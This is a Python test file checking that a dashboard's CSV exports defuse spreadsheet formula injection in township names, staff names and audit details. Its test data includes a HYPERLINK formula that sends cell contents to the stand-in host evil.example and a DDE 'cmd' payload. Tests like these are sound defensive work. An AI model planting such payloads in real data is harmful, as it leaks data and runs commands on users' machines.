"""CSV exports cannot carry a spreadsheet formula (issue 11, item 14).

A township, a staff name or an audit detail starting with = + - @ (or a tab / carriage return)
would run as a formula when the bureau opens the export in Excel or WPS. Before the fix the
cells were written as they were.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from app.csvsafe import safe_cell
from app.dashboard.export import to_csv
from app.dashboard.period import parse_period
from app.dashboard.report import get_metrics
from app.org.models import Node, Staff
from vetting import audit

NOW = datetime(2026, 3, 10, 10, 0, tzinfo=UTC)
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_inert(values: list[str]) -> None:
    for value in values:
        assert not value or value[0] not in "=+-@\t\r", value


def test_safe_cell_defuses_formulas_and_leaves_numbers_alone():
    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell(-40001) == -40001 and safe_cell(0.5) == 0.5 and safe_cell("甲镇") == "甲镇"


def test_the_audit_export_defuses_what_people_typed(db):
    for n, formula in enumerate(FORMULAS):
        audit.record(session=db, actor=f"o_{n}", action="post_reported", now=NOW, detail=formula)
    db.commit()
    exported = "".join(audit.export_csv(session=db))
    assert_inert(cells(exported))
    assert "'=HYPERLINK" in exported


def test_the_metrics_export_defuses_names_from_the_org_file(db):
    district = Node(code="d", kind="district", name="测试区", overrides={})
    town = Node(code="d-a", kind="township", name="=cmd|' /C calc'!A0", parent=district, overrides={})
    db.add_all([district, town])
    db.flush()
    db.add(Staff(userid="stew_a", name="@SUM(1,2)", role="township_steward", node_id=town.id))
    db.commit()
    metrics = get_metrics(session=db, period=parse_period(first=None, last=None, now=NOW, timezone="Asia/Shanghai"), now=NOW)
    exported = to_csv(metrics)
    assert "'=cmd" in exported and "'@SUM" in exported
    assert_inert(cells(exported))
